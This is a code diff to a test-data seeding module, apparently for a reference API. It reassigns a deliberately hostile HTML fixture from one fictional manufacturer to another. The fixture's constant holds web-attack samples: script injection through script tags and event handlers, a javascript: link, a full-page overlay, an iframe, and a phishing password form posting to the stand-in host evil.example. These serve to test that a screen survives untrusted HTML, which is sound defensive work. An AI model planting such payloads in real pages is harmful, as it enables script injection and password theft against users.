@@ -1,6 +1,6 @@
 import { detailDefinitions } from '#src/reference-api/drawings/details.ts';
 import { detailsShowing } from '#src/reference-api/drawings/parts/parts-of-products.ts';
-import { NORTHFOLD } from '#src/reference-api/seed/named-makers.ts';
+import { NORTHFOLD, OHALLORAN } from '#src/reference-api/seed/named-makers.ts';
 import type { Seeding } from '#src/reference-api/seed/seeding.ts';
 import { escaped } from '#src/reference-api/seed/news.ts';
 import { lowered } from '#src/reference-api/seed/titles.ts';
@@ -33,12 +33,12 @@ export function seedPhotos(seeding: Seeding): void {
   }
 }
 
-/** The manufacturers' own HTML: most of it plain, some of it hostile or broken, on purpose. */
+/** The manufacturers' own HTML: plain, but for one whose page is hostile and broken on purpose. */
 export function seedCustomHtml(seeding: Seeding): void {
   for (const { company, profiles } of seeding.makers) {
     if (profiles.length === 0) continue;
     const random = seeding.random('html', company.coid);
-    if (company.coid !== NORTHFOLD && !random.chance(0.35)) continue;
+    if (![NORTHFOLD, OHALLORAN].includes(company.coid) && !random.chance(0.35)) continue;
     const [first, second] = profiles;
     const name = escaped(company.companyNoHtml);
     const html = [
@@ -54,19 +54,19 @@ export function seedCustomHtml(seeding: Seeding): void {
         )
         .join('')}</table>`,
     ].join('\n');
-    seeding.world.customHtml.set(company.coid, company.coid === NORTHFOLD ? html + HOSTILE : html);
+    seeding.world.customHtml.set(company.coid, company.coid === OHALLORAN ? html + HOSTILE : html);
   }
 }
 
 /** Scripts, handlers, styles, foreign frames, a phishing form and broken markup: what a screen has to survive. */
 const HOSTILE = `
-<script>document.title = 'owned'; window.northfoldRan = true;</script>
-<img src="x" onerror="window.northfoldRan = true" alt="Roof in the snow">
+<script>document.title = 'owned'; window.ownPageRan = true;</script>
+<img src="x" onerror="window.ownPageRan = true" alt="Front in the snow">
 <p style="position:fixed;inset:0;background:#fff;z-index:99999">Free samples</p>
 <style>body { display: none }</style>
 <iframe src="https://evil.example/frame"></iframe>
 <form action="https://evil.example/login"><input name="password" placeholder="Sign in again"><button>Go</button></form>
 <a href="javascript:alert(1)">Installation guide</a> <a href="//evil.example/x" target="_top">Mirror</a>
-<svg><animate onbegin="window.northfoldRan = true" attributeName="x"></animate></svg>
+<svg><animate onbegin="window.ownPageRan = true" attributeName="x"></animate></svg>
 <div id="root" class="app"><b>Warranty <i>terms</b> apply</i><table><tr><td>unclosed
 <p>Last <em>word</p></em>`;
